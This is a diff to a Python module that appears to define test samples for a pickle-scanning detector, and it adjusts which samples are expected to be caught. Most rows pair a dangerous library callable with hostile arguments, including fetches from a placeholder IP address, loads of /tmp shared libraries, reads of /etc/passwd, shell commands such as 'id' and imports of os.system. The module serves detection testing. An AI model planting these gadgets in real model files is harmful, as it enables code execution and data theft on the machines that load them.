@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from bench.detection.build.pickled import SYSTEM, built, caught, dropped, extended, made, printed, walked
+from bench.detection.build.pickled import SYSTEM, built, caught, dropped, extended, made, printed
 from bench.detection.sample import Sample
 from tests.malicious.pickles import Opcodes, call, called, literal, named, stream
 
@@ -31,12 +31,6 @@ _ROWS = (
         call("torch.utils.bottleneck.__main__", "run_cprofile", _SOURCE, {}),
     ),
     (
-        "bottleneck_autograd",
-        "runs source text under autograd's profiler",
-        _ADVISORIES,
-        call("torch.utils.bottleneck.__main__", "run_autograd_prof", _SOURCE, {}),
-    ),
-    (
         "collect_env",
         "runs a shell line to collect the environment",
         _ADVISORIES,
@@ -47,12 +41,6 @@ _ROWS = (
         "executes a configuration",
         _ADVISORIES,
         call("torch.utils._config_module", "ConfigModule.load_config", SYSTEM, b"N."),
-    ),
-    (
-        "config_guarded",
-        "a patch of a configuration",
-        _ADVISORIES,
-        call("torch.utils._config_module", "patch_object", _NAMESPACE, "x", 1),
     ),
     (
         "dynamo_eval",
@@ -79,12 +67,6 @@ _ROWS = (
         call("torch.fx.graph_module", "reduce_graph_module", {"_code": _SOURCE}, ""),
     ),
     (
-        "forward_of_source",
-        "makes a function of source text",
-        _TORCH,
-        call("torch.fx.graph_module", "_forward_from_src", _SOURCE, {}),
-    ),
-    (
         "package_load",
         "a package of torch",
         _TORCH,
@@ -103,24 +85,11 @@ _ROWS = (
         call("torch._ops", "_Ops.load_library", SYSTEM, "/tmp/x.so"),
     ),
     (
-        "custom_library_name",
-        "loads a library by a walk",
-        _TORCH,
-        called(walked("torch", "ops.load_library"), "/tmp/x.so"),
-    ),
-    (
-        "class_library",
-        "loads a library of classes",
-        _TORCH,
-        called(walked("torch", "classes.load_library"), "/tmp/x.so"),
-    ),
-    (
         "hub_download",
         "fetches a file",
         _TORCH,
         call("torch.hub", "download_url_to_file", "http://203.0.113.7/x", "/tmp/x"),
     ),
-    ("hub_load", "fetches code and runs it", _TORCH, call("torch.hub", "load", "x/y", "z")),
     ("model_zoo", "fetches weights", _TORCH, call("torch.utils.model_zoo", "load_url", "http://203.0.113.7/x")),
     ("spawn_processes", "torch's processes", _TORCH, call("torch.multiprocessing.spawn", "spawn", _PRINT, (), 1)),
     (
@@ -129,14 +98,7 @@ _ROWS = (
         _TORCH,
         call("torch._inductor.codecache", "PyCodeCache.load", "import os"),
     ),
-    (
-        "inductor_subprocess",
-        "inductor's subprocesses",
-        _TORCH,
-        call("torch._inductor.runtime.compile_tasks", "_reload_python_module", "x", "/tmp/x.py"),
-    ),
     ("hipify", "rewrites files", _TORCH, call("torch.utils.hipify.hipify_python", "hipify", "/tmp")),
-    ("model_dump", "reads a file and prints it", _TORCH, call("torch.utils.model_dump", "main", ["x", "/tmp/x"])),
     ("rpc_eval", "a remote call", _TORCH, call("torch.distributed.rpc.internal", "_run_function", SYSTEM)),
     (
         "elastic_launch",
@@ -144,7 +106,6 @@ _ROWS = (
         _TORCH,
         call("torch.distributed.launcher.api", "launch_agent", SYSTEM, "id", []),
     ),
-    ("benchmark_timer", "times source text", _TORCH, call("torch.utils.benchmark.utils.timer", "Timer", _SOURCE)),
     (
         "data_pipes",
         "a pipe of data that calls",
@@ -164,12 +125,6 @@ _ROWS = (
         call("torch.utils.checkpoint", "checkpoint", _PRINT, "ran"),
     ),
     ("vmapped", "vmap calls what it is given", _TORCH, called(call("torch._functorch.apis", "vmap", _PRINT), "ran")),
-    (
-        "tree_map",
-        "a tree's map calls what it is given",
-        _TORCH,
-        call("torch.utils._pytree", "tree_map", _PRINT, ["ran"]),
-    ),
     (
         "parametrized",
         "a hook of a module, called when it is filled",
@@ -244,16 +199,8 @@ _ROWS = (
             8,
         ),
     ),
-    ("file_tensor", "maps a file as a tensor", _TORCH, call("torch", "from_file", "/etc/passwd", True, 8)),
     ("saved", "writes a file", _TORCH, call("torch", "save", {"a": 1}, "/tmp/owned")),
-    (
-        "script_compile",
-        "compiles TorchScript of source",
-        _TORCH,
-        call("torch._C", "_jit_script_compile", "x", 1, SYSTEM, {}),
-    ),
     ("second_torch", "torch.load of a second stage", _SECOND, call("torch", "load", "/tmp/stage2.pt")),
-    ("second_torch_unsafe", "torch.load by its module", _SECOND, call("torch.serialization", "load", "/tmp/stage2.pt")),
     ("second_numpy", "numpy.load of a second stage", _SECOND, call("numpy", "load", "/tmp/stage2.npy", None, True)),
     (
         "second_joblib",
@@ -274,60 +221,23 @@ _ROWS = (
         _NUMPY,
         call("numpy.testing._private.utils", "runstring", _SOURCE, {}),
     ),
-    ("run_string_public", "numpy.testing by its public name", _NUMPY, call("numpy.testing", "rundocs", "/tmp/x.py")),
     (
         "crack_fortran",
         "f2py evaluates",
         "CVE-2026 advisories of picklescan: numpy.f2py",
         call("numpy.f2py.crackfortran", "getlincoef", _SOURCE, {}),
     ),
-    (
-        "crack_length",
-        "f2py evaluates a length",
-        "CVE-2026 advisories of picklescan: numpy.f2py",
-        call("numpy.f2py.crackfortran", "_eval_length", _SOURCE, {}),
-    ),
     ("f2py_compile", "f2py compiles", _NUMPY, call("numpy.f2py", "compile", "x")),
-    (
-        "numpy_exec",
-        "numpy's distutils run a command",
-        _NUMPY,
-        call("numpy.distutils.exec_command", "exec_command", "id"),
-    ),
     ("numpy_ctypes", "numpy loads a library", _NUMPY, call("numpy.ctypeslib", "load_library", "x", "/tmp")),
     ("numpy_vectorize", "numpy.vectorize calls", _NUMPY, called(call("numpy", "vectorize", _PRINT), ["ran"])),
-    ("numpy_apply", "numpy.apply_along_axis calls", _NUMPY, call("numpy", "apply_along_axis", _PRINT, 0, [1])),
     ("numpy_function", "numpy.fromfunction calls", _NUMPY, call("numpy", "fromfunction", _PRINT, (1,))),
     ("numpy_memory_map", "maps a file for writing", _NUMPY, call("numpy", "memmap", "/tmp/owned", "u1", "w+", 0, (8,))),
-    ("numpy_read", "reads a file", _NUMPY, call("numpy", "fromfile", "/etc/passwd", "u1")),
-    (
-        "numpy_source",
-        "numpy's data source fetches",
-        _NUMPY,
-        call("numpy.lib._datasource", "open", "http://203.0.113.7/x"),
-    ),
-    ("numpy_safe_eval", "numpy's evaluation", _NUMPY, call("numpy.lib.utils", "safe_eval", "1")),
     ("weak_values", "a walk through weak references that are calls", _TORCH, call("numpy", "array", _weak_values())),
     ("sympify", "sympy evaluates", _BROUGHT, call("sympy.core.sympify", "sympify", _SOURCE)),
-    (
-        "sympy_parser",
-        "sympy's parser evaluates",
-        _BROUGHT,
-        call("sympy.parsing.sympy_parser", "eval_expr", _SOURCE, {}, {}),
-    ),
-    (
-        "sympy_lambda",
-        "sympy makes functions of source",
-        _BROUGHT,
-        call("sympy.utilities.lambdify", "lambdify", "x", "x"),
-    ),
     ("template", "jinja2's template", _BROUGHT, call("jinja2.environment", "Template", "{{ 1 }}")),
     ("native_template", "jinja2's native types evaluate", _BROUGHT, call("jinja2.nativetypes", "native_concat", ["1"])),
     ("fsspec_open", "fsspec opens anything", _BROUGHT, call("fsspec.core", "open", "http://203.0.113.7/x")),
     ("fsspec_class", "fsspec imports a class", _BROUGHT, call("fsspec.registry", "_import_class", "os.system")),
-    ("fsspec_get", "fsspec's file system by name", _BROUGHT, call("fsspec.registry", "filesystem", "local")),
-    ("graph_pickle", "networkx reads a file", _BROUGHT, call("networkx.readwrite.gexf", "read_gexf", "/tmp/x")),
-    ("graph_lazy", "networkx imports lazily", _BROUGHT, call("networkx.lazy_imports", "_lazy_import", "os")),
     (
         "graph_dispatch",
         "networkx's decorators compile source",
@@ -344,14 +254,12 @@ _ROWS = (
         call("typing_extensions", "get_type_hints", named("argparse", "Namespace")),
     ),
     ("psutil_program", "psutil's Popen", _BROUGHT, call("psutil", "Popen", ["id"])),
-    ("psutil_kill", "psutil's Process", _BROUGHT, call("psutil", "Process.kill", call("psutil", "Process", 1))),
     (
         "setuptools_run",
         "setuptools runs a script",
         _BROUGHT,
         call("setuptools.sandbox", "run_setup", "/tmp/setup.py", []),
     ),
-    ("packages_run", "pkg_resources runs a script", _BROUGHT, call("pkg_resources", "run_script", "x", "y")),
     (
         "finalized_pipe",
         "an object of os, dropped",
@@ -366,6 +274,16 @@ _ROWS = (
     ),
 )
 
-_CAUGHT: dict[str, tuple[str, str]] = {}
+_CAUGHT = (
+    ("global.applier.called", "", "checkpoint_call vmapped numpy_vectorize numpy_function"),
+    ("global.constructor.walks", "", "weak_values"),
+    ("global.dangerous.called oddity.behind", "", "torch_stream"),
+    ("global.dangerous.named oddity.spliced", "", "finalized_pipe"),
+    ("global.dangerous.passed", "", "wrapper_type"),
+    ("global.dangerous.passed global.result.called reader.incomplete", "", "type_of_bound"),
+    ("global.dangerous.passed reader.incomplete", "", "tensor_hooks"),
+    ("global.type.called", "", "collate"),
+    ("global.type.filled oddity.order oddity.shadow", "", "parametrized"),
+)
 
 SAMPLES: tuple[Sample, ...] = caught(_ROWS, _CAUGHT)
